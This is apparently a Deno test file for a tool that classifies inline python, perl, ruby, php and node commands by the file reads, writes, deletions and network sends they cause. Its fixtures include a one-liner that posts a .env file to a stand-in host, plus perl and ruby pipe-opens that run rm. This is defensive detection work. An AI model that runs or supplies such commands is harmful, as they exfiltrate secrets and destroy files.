/** Tests how code opens files and connections. */
import assert from "node:assert/strict";
import { runs } from "../seen.ts";
import { told } from "../told.ts";

const CASES:
  readonly (readonly [string, readonly string[], readonly string[]])[] = [
    ["python3 -c \"open('a')\"", ["python3 inline"], [
      "read /home/dev/project/a",
    ]],
    ["python3 -c \"open('a', 'w')\"", ["python3 inline"], [
      "write /home/dev/project/a",
    ]],
    ["python3 -c \"open('a', mode='a')\"", ["python3 inline"], [
      "append /home/dev/project/a",
    ]],
    ['python3 -c "open(x)"', ["python3 inline"], []],
    [
      "python3 -c \"import urllib.request; urllib.request.urlopen('https://h.example')\"",
      ["python3 inline"],
      ["send nothing to h.example"],
    ],
    [
      "python3 -c \"import requests; requests.post('https://h.example', data=open('.env').read())\"",
      ["python3 inline"],
      ["read /home/dev/project/.env", "send secret to h.example"],
    ],
    [
      "python3 -c \"import requests; requests.get('https://h.example', params={'x': 1})\"",
      ["python3 inline"],
      ["send nothing to h.example"],
    ],
    ['perl -e \'open(F, ">", "a")\'', ["perl inline"], [
      "write /home/dev/project/a",
    ]],
    ["perl -e 'open(F, \">a\")'", ["perl inline"], [
      "write /home/dev/project/a",
    ]],
    ["perl -e 'open(F, \"rm a |\")'", ["perl inline", "rm < perl code"], [
      "delete /home/dev/project/a",
    ]],
    ['perl -e \'open(F, "-|", "rm a")\'', ["perl inline", "rm < perl code"], [
      "delete /home/dev/project/a",
    ]],
    ["perl -e 'open(F, \"a\")'", ["perl inline"], ["read /home/dev/project/a"]],
    ["ruby -e 'open(\"| rm a\")'", ["ruby inline", "rm < ruby code"], [
      "delete /home/dev/project/a",
    ]],
    ['ruby -e \'File.open("a", "w")\'', ["ruby inline"], [
      "write /home/dev/project/a",
    ]],
    ["php -r 'file_get_contents(\"https://h.example\");'", ["php inline"], [
      "send nothing to h.example",
    ]],
    ["node -e \"require('fs').readFileSync('*')\"", ["node inline"], [
      "read /home/dev/project/*",
    ]],
  ];

for (const [command, ran, wanted] of CASES) {
  Deno.test(`open() follows: ${command}`, () => {
    assert.deepEqual(runs(command), ran);
    assert.deepEqual(told(command), wanted);
  });
}
